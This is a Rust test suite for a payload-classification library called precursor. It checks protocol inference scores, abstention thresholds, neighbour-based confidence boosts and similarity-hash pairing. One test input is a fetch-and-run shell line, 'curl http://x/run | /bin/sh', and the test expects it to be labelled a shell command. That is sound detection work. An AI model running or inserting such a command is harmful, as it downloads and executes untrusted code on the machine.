use precursor::aggregate::{neighbor_lists, rank_hint_candidates, reports_to_emit, run_hash_diffs};
use precursor::inference::{apply_similarity_neighbor_boost, infer_protocol_candidates, ProtocolCandidate, ProtocolInference};
use precursor::similarity::{calculate_similarity_hash, SimilarityMode};

fn millionths(x: f64) -> u64 {
    (x * 1_000_000.0).round() as u64
}

fn log1p_micros(n: usize) -> u64 {
    millionths((n as f64).ln_1p())
}

fn entropy_millibits(payload: &[u8]) -> u64 {
    if payload.is_empty() {
        return 0;
    }
    let mut counts = [0usize; 256];
    for b in payload {
        counts[*b as usize] += 1;
    }
    let len = payload.len() as f64;
    let mut e = 0.0f64;
    for c in counts.iter().filter(|c| **c > 0) {
        let p = *c as f64 / len;
        e -= p * p.log2();
    }
    (e * 1000.0).ceil() as u64
}

fn infer(payload: &[u8], tags: &[&str], neighbors: usize, top_k: usize, threshold: f64) -> ProtocolInference {
    let tags: Vec<String> = tags.iter().map(|t| t.to_string()).collect();
    infer_protocol_candidates(payload, &tags, neighbors, log1p_micros(neighbors), entropy_millibits(payload), top_k, millionths(threshold))
}

#[test]
fn test_http_candidate() {
    let payload = b"GET /index.html HTTP/1.1\r\nHost: example.org\r\n\r\n";
    let inference = infer(payload, &[], 0, 3, 0.6);
    assert_eq!(inference.label, "http");
    assert!(!inference.abstained);
}

#[test]
fn test_tls_candidate() {
    let payload = vec![0x16, 0x03, 0x03, 0x00, 0x2f, 0x01, 0x00, 0x00, 0x2b];
    let inference = infer(&payload, &[], 0, 3, 0.6);
    assert_eq!(inference.label, "tls");
    assert!(!inference.abstained);
}

#[test]
fn test_firmware_magic_candidate() {
    let payload = b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00";
    let inference = infer(payload, &[], 0, 3, 0.6);
    assert_eq!(inference.label, "firmware_binary");
}

#[test]
fn test_abstain_on_ambiguous_payload() {
    let payload = b"abc";
    let inference = infer(payload, &[], 0, 3, 0.8);
    assert_eq!(inference.label, "unknown");
    assert!(inference.abstained);
}

#[test]
fn test_neighbor_boost_changes_confidence() {
    let payload = b"GET / HTTP/1.1\r\nHost: x\r\n\r\n";
    let without_neighbors = infer(payload, &[], 0, 3, 0.95);
    let with_neighbors = infer(payload, &[], 20, 3, 0.95);
    assert!(with_neighbors.confidence > without_neighbors.confidence);
}

#[test]
fn inference_exact_scores() {
    let r = infer(b"GET /index.html HTTP/1.1 Host: example.org\n", &["http_get"], 0, 3, 0.65);
    assert_eq!(r.label, "http");
    assert_eq!(r.confidence, 990_000);
    assert_eq!(r.candidates[0].protocol, "http");
    let ssh = infer(b"SSH-2.0-OpenSSH_8.9", &[], 0, 3, 0.65);
    assert_eq!(ssh.confidence, 950_000);
    let curl = infer(b"curl http://x/run | /bin/sh", &[], 0, 3, 0.65);
    assert_eq!(curl.candidates[0].protocol, "shell_command");
    assert_eq!(curl.confidence, 720_000);
    let none = infer(b"", &[], 0, 3, 0.0);
    assert!(none.abstained);
    assert_eq!(none.candidates.len(), 1);
    assert_eq!(none.candidates[0].evidence, vec!["no protocol heuristics matched"]);
}

#[test]
fn inference_top_k_and_boost_monotone() {
    let payload = b"MZ\x90\x00 host: a.b.c";
    let one = infer(payload, &["tls_probe"], 0, 0, 0.5);
    assert_eq!(one.candidates.len(), 1);
    let many = infer(payload, &["tls_probe"], 0, 10, 0.5);
    assert!(many.candidates.windows(2).all(|w| w[0].score >= w[1].score));
    let mut last = 0;
    for n in [0usize, 1, 2, 5, 50, 5000] {
        let r = infer(b"user admin", &[], n, 3, 0.7);
        assert!(r.confidence >= last);
        last = r.confidence;
    }
    assert_eq!(last, 910_000);
}

#[test]
fn test_apply_similarity_neighbor_boost_updates_top_candidate() {
    let mut report = ProtocolInference {
        label: "unknown".to_string(),
        confidence: 500_000,
        abstained: true,
        candidates: vec![
            ProtocolCandidate { protocol: "http".to_string(), score: 500_000, evidence: vec![] },
            ProtocolCandidate { protocol: "tls".to_string(), score: 400_000, evidence: vec![] },
        ],
    };
    apply_similarity_neighbor_boost(&mut report, 10, log1p_micros(10), millionths(0.60));
    assert_eq!(report.label, "http");
    assert!(!report.abstained);
    assert!(report.confidence > 600_000);
    assert!(!report.candidates[0].evidence.is_empty());
}

#[test]
fn test_apply_similarity_neighbor_boost_is_noop_for_empty_neighbors() {
    let mut report = ProtocolInference {
        label: "http".to_string(),
        confidence: 800_000,
        abstained: false,
        candidates: vec![ProtocolCandidate { protocol: "http".to_string(), score: 800_000, evidence: vec![] }],
    };
    apply_similarity_neighbor_boost(&mut report, 0, log1p_micros(0), millionths(0.60));
    assert_eq!(report.label, "http");
    assert!(!report.abstained);
    assert_eq!(report.confidence, 800_000);
}

#[test]
fn pairwise_diffs_and_neighbors() {
    let payloads: [&[u8]; 3] = [b"GET /a HTTP/1.1\r\nHost: example.org\r\n", b"GET /b HTTP/1.1\r\nHost: example.org\r\n", b"\x00\x01\x02"];
    let hashes: Vec<_> = payloads.iter().map(|p| calculate_similarity_hash(p, &SimilarityMode::Lzjd, "48_1").expect("hash")).collect();
    let cosine = |_: &Vec<(u32, u32)>| 0u32;
    let all = run_hash_diffs(&hashes, 100, false, &cosine);
    assert_eq!(all.iter().map(|p| (p.0, p.1)).collect::<Vec<_>>(), vec![(0, 1), (0, 2), (1, 2)]);
    let close = run_hash_diffs(&hashes, 60, false, &cosine);
    assert!(close.iter().any(|p| (p.0, p.1) == (0, 1)));
    assert!(close.iter().all(|p| p.2 <= 60));
    let lists = neighbor_lists(3, &close);
    let counts: Vec<usize> = lists.iter().map(|l| l.len()).collect();
    assert!(counts[0] >= 1 && counts[1] >= 1);
    let emitted = reports_to_emit(&counts, true);
    assert!(emitted.iter().all(|i| counts[*i] > 0));
    assert_eq!(reports_to_emit(&counts, false), vec![0, 1, 2]);
}

#[test]
fn hint_ranking() {
    let counts = vec![1usize, 5, 0, 5, 2];
    assert_eq!(rank_hint_candidates(&counts, 3), vec![1, 3, 4]);
    assert_eq!(rank_hint_candidates(&counts, 10).len(), 5);
    assert!(rank_hint_candidates(&counts, 0).is_empty());
}

#[test]
fn abstain_iff_unknown_iff_below_threshold() {
    for threshold in [0.3, 0.7, 0.9, 1.5] {
        for payload in [&b"GET / HTTP/1.1"[..], b"user bob", b"{\"a\": 1}", b"SSH-2.0-x"] {
            let r = infer(payload, &[], 0, 3, threshold);
            let below = (r.confidence as f64) < threshold.min(1.0) * 1_000_000.0;
            assert_eq!(r.abstained, below);
            assert_eq!(r.label == "unknown", r.abstained);
        }
    }
}

#[test]
fn boost_keeps_every_candidate_and_adds_the_note() {
    let mut report = ProtocolInference {
        label: "unknown".to_string(),
        confidence: 500_000,
        abstained: true,
        candidates: vec![
            ProtocolCandidate { protocol: "http".to_string(), score: 500_000, evidence: vec![] },
            ProtocolCandidate { protocol: "tls".to_string(), score: 100_000, evidence: vec![] },
        ],
    };
    apply_similarity_neighbor_boost(&mut report, 10, log1p_micros(10), millionths(0.60));
    let labels: Vec<&str> = report.candidates.iter().map(|c| c.protocol.as_str()).collect();
    assert_eq!(labels, vec!["http", "tls"]);
    assert_eq!(report.candidates[0].evidence, vec!["similarity cluster boost from 10 neighbors"]);
    assert_eq!(report.confidence, 500_000 + 2_397_895 * 8 / 100);
}
